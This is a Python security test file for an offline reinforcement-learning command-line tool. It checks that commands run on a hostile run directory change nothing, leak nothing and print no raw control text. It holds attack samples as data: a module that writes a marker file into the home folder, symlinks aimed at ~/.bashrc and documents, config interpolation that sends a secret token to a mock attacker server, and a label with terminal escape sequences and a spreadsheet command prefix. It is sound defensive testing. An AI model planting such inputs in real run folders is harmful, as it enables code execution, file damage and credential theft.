"""A run directory of a stranger, hostile in every way that docs/security.md names, through every command that takes
one: nothing outside the run and the command's own output changes, nothing is imported, nothing leaves, and no text of
it reaches the terminal raw.

Each attack alone (for the first that is refused hides the others), and all at once.
"""

from __future__ import annotations

import hashlib
import http.server
import json
import os
import shutil
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import h5py
import pytest
import yaml

from offrl.system import files as checkpoint

from .conftest import Offrl, hopper_like

SAVED = Path(__file__).parents[1] / "data" / "run"
SECRET = "hf_SECRET_of_the_victim"
EVIL = """
import os, pathlib
pathlib.Path(os.environ["HOME"], "PWNED").write_text(__name__)
def f(episode):
    return episode["rewards"]
import gymnasium
gymnasium.register("X-v0", entry_point=lambda **options: gymnasium.make("Hopper-v5"))
"""
SELECT = "updates=20 behavior_updates=20 seeds=1 hidden=[8] compile=eager"
COMMANDS = {
    "evaluate": "evaluate {run} episodes=1 max_steps=5",
    "resume": "train resume={run} steps=30",
    "select": f"select {{run}} {SELECT}",
    "finetune": "finetune {run} steps=20 warmup=10 eval.episodes=1 eval.max_steps=5 compile=eager runs_dir=new "
    "name=child",
    "export": "export {run}",
    "report": "report {run} out=page",
    "model": "model {run}",
}


class Stranger:
    """The run that the victim got, and the victim's home, with a server of the attacker."""

    def __init__(self, run: Path, home: Path, address: str) -> None:
        self.run, self.home, self.address = run, home, address
        self.module = ".".join(["runs", run.name, "evil"])
        (run / "evil.py").write_text(EVIL)

    def config(self, **values: Any) -> None:
        """Change settings of config.yaml, dataset's by their names alone."""
        saved = yaml.safe_load((self.run / "config.yaml").read_text())
        for name, value in values.items():
            (saved if name in saved else saved["dataset"])[name] = value
        (self.run / "config.yaml").write_text(yaml.safe_dump(saved))

    def dataset(self, name: str) -> None:
        saved = yaml.safe_load((self.run / "config.yaml").read_text())
        saved["dataset"]["name"] = name
        (self.run / "config.yaml").write_text(yaml.safe_dump(saved))

    def record(self, change: Callable[[dict[str, Any]], None]) -> None:
        saved = json.loads((self.run / "run.json").read_text())
        change(saved)
        (self.run / "run.json").write_text(json.dumps(saved))

    def link(self, name: str, target: str) -> None:
        """A link in the run, in place of what is there, to a file or folder of the home."""
        place = self.run / name
        place.parent.mkdir(parents=True, exist_ok=True)
        if place.is_dir() and not place.is_symlink():
            shutil.rmtree(place)
        place.unlink(missing_ok=True)
        place.symlink_to(self.home / target)


def reward_function(it: Stranger) -> None:
    it.config(reward_labels=str(it.run / "evil.py") + ":f")


def cache_of_the_run(it: Stranger) -> None:
    (it.run / "cache").mkdir()
    with h5py.File(it.run / "data.hdf5", "w") as file:
        for key, values in hopper_like().items():
            file[key] = values
    it.config(cache="always", cache_dir=str(it.run / "cache"), cache_limit_gb=1e-3)
    it.dataset(str(it.run / "data.hdf5"))
    it.link("cache/flat", "documents")


def parts(it: Stranger) -> None:
    for name in ("run.json", "config.yaml", "metrics.jsonl", "scores.csv", "select.csv", "learning_curve.png"):
        it.link(f".{name}.part", ".bashrc")
        it.link(f"{name}.part", ".bashrc")
    it.link("export/seed_0/.policy.onnx.part", ".bashrc")
    it.link("policies/.seed_0.safetensors.part", ".bashrc")


def lock(it: Stranger) -> None:
    it.link(".lock", ".bashrc")


def appended(it: Stranger) -> None:
    it.link("timing.jsonl", ".bashrc")


def folders(it: Stranger) -> None:
    for name in ("tensorboard", "export", "videos"):
        it.link(name, "documents")


def interpolation(it: Stranger) -> None:
    it.config(label="${oc.env:TOKEN}")


def mirror(it: Stranger) -> None:
    it.config(mirror=f"{it.address}/plain", cache_dir=str(it.run / "cache"))
    it.dataset("hopper-medium-v2")


def mirror_with_a_secret(it: Stranger) -> None:
    it.config(mirror=f"{it.address}/${{oc.env:TOKEN}}", cache_dir=str(it.run / "cache"))
    it.dataset("hopper-medium-v2")


def environment(it: Stranger) -> None:
    def change(record: dict[str, Any]) -> None:
        record["env"] = f"{it.module}:X-v0"
        record["spec"]["task"]["env_id"] = f"{it.module}:X-v0"

    it.record(change)
    saved = yaml.safe_load((it.run / "config.yaml").read_text())
    saved["eval"]["env"] = f"{it.module}:X-v0"
    (it.run / "config.yaml").write_text(yaml.safe_dump(saved))
    for path in it.run.rglob("*.safetensors"):
        tensors, meta = checkpoint.read(path)
        text = json.dumps(meta).replace('"Hopper-v5"', f'"{it.module}:X-v0"')
        checkpoint.write(path, tensors, {k: v for k, v in json.loads(text).items() if k not in ("version", "sha256")})


def window(it: Stranger) -> None:
    def change(record: dict[str, Any]) -> None:
        record["spec"]["task"]["env_kwargs"] = {"render_mode": "human", "xml_file": str(it.home / ".bashrc")}

    it.record(change)


def names(it: Stranger) -> None:
    label = "=cmd|' \x1b]52;c;ZXZpbA==\x07\x1b[2Jno fault\n\x1b]0;owned\x07"
    it.config(label=label)

    def change(record: dict[str, Any]) -> None:
        record["label"], record["data"]["name"], record["spec"]["name"] = label, f"data {label}", f"data {label}"

    it.record(change)


def giant(it: Stranger) -> None:
    def change(record: dict[str, Any]) -> None:
        record["identity"]["grid"] = [
            [name, list(range(1000))] for name in ("temperature", "expectile", "learning_rate")
        ]

    it.record(change)


ATTACKS = (
    reward_function,
    cache_of_the_run,
    parts,
    lock,
    appended,
    folders,
    interpolation,
    mirror,
    mirror_with_a_secret,
    environment,
    window,
    names,
    giant,
)


@pytest.fixture(scope="module")
def dynamics(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run of a world model, which `offrl model` takes."""
    from offrl.cli.main import main

    folder = tmp_path_factory.mktemp("dynamics")
    words = (
        "algo=dynamics steps=10 compile=eager compare=[] algo.hidden=[8] seeds=1 log_every=10 algo.members=2 "
        "algo.elites=1 --quiet"
    )
    assert main(["train", *words.split(), f"runs_dir={folder}", "name=it"]) == 0
    return folder / "it"


@pytest.fixture
def server() -> Iterator[tuple[str, list[str]]]:
    """(address, requests that came) of the attacker's machine."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        do_HEAD = do_POST = do_GET

        def log_message(self, *_: Any) -> None:
            pass

    listening = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=listening.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{listening.server_address[1]}", asked
    listening.shutdown()
    listening.server_close()


def state(folder: Path) -> dict[str, str]:
    """What lies below `folder`: kind, and a hash of the bytes of files."""
    return {
        str(path.relative_to(folder)): f"link to {os.readlink(path)}"
        if path.is_symlink()
        else hashlib.sha256(path.read_bytes()).hexdigest()
        if path.is_file()
        else "folder"
        for path in sorted(folder.rglob("*"))
        if path.relative_to(folder).parts[0]
        not in (".cache", ".config")  # where libraries, such as onnxruntime, keep what is theirs
    }


def victim(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: Path, address: str) -> Stranger:
    home = tmp_path / "home"
    for name in ("documents/thesis", "documents/hparams", "documents/seed_0"):
        (home / name).mkdir(parents=True)
        (home / name / "draft.txt").write_text("years of work")
    (home / ".bashrc").write_text("alias ll='ls -l'\n")
    for name, value in {"HOME": str(home), "TOKEN": SECRET}.items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv("OFFRL_TRUST", raising=False)
    monkeypatch.syspath_prepend(str(tmp_path))  # as in a notebook, or `python -m offrl.cli`
    run = tmp_path / "runs" / "gift"
    shutil.copytree(source, run)
    return Stranger(run, home, address)


def check(offrl: Offrl, it: Stranger, command: str, asked: list[str]) -> None:
    folder, before = it.run.parents[1], state(it.home)
    present = {p.name for p in folder.iterdir()}
    result = offrl(COMMANDS[command].format(run=it.run.relative_to(folder)))
    assert state(it.home) == before, (command, result)
    assert result.status in (0, 1, 2), (command, result)
    assert "Traceback" not in result.err, (command, result)
    assert not asked, (command, asked)
    assert not any((ord(c) < 32 and c not in "\n\r\t") or c == "\x9b" for c in result.out + result.err), (
        command,
        result,
    )
    made = {p.name for p in folder.iterdir()} - present
    assert made <= {"new", "page", "cache", "__pycache__", ".offrl"}, (command, made)
    for path in folder.rglob("*"):
        if path.is_file() and not path.is_symlink():
            assert SECRET.encode() not in path.read_bytes(), (command, path)
    assert SECRET not in result.out + result.err, (command, result)


@pytest.mark.nightly
@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: a.__name__)
@pytest.mark.parametrize("command", COMMANDS)
def test_one_attack(
    offrl: Offrl,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    server: Any,
    dynamics: Path,
    command: str,
    attack: Callable[[Stranger], None],
) -> None:
    it = victim(tmp_path, monkeypatch, dynamics if command == "model" else SAVED, server[0])
    attack(it)
    check(offrl, it, command, server[1])


def test_all_at_once(offrl: Offrl, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, server: Any) -> None:
    it = victim(tmp_path, monkeypatch, SAVED, server[0])
    for attack in ATTACKS:
        attack(it)
    for command in COMMANDS:
        check(offrl, it, command, server[1])


@pytest.mark.slow
@pytest.mark.parametrize("command", [c for c in COMMANDS if c != "model"])
def test_an_honest_run_is_served(
    offrl: Offrl, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, server: Any, command: str
) -> None:
    """The commands above are refused for the attack, not for something else."""
    it = victim(tmp_path, monkeypatch, SAVED, server[0])
    os.remove(it.run / "evil.py")
    result = offrl(COMMANDS[command].format(run=it.run.relative_to(tmp_path)))
    assert result.status == 0, result
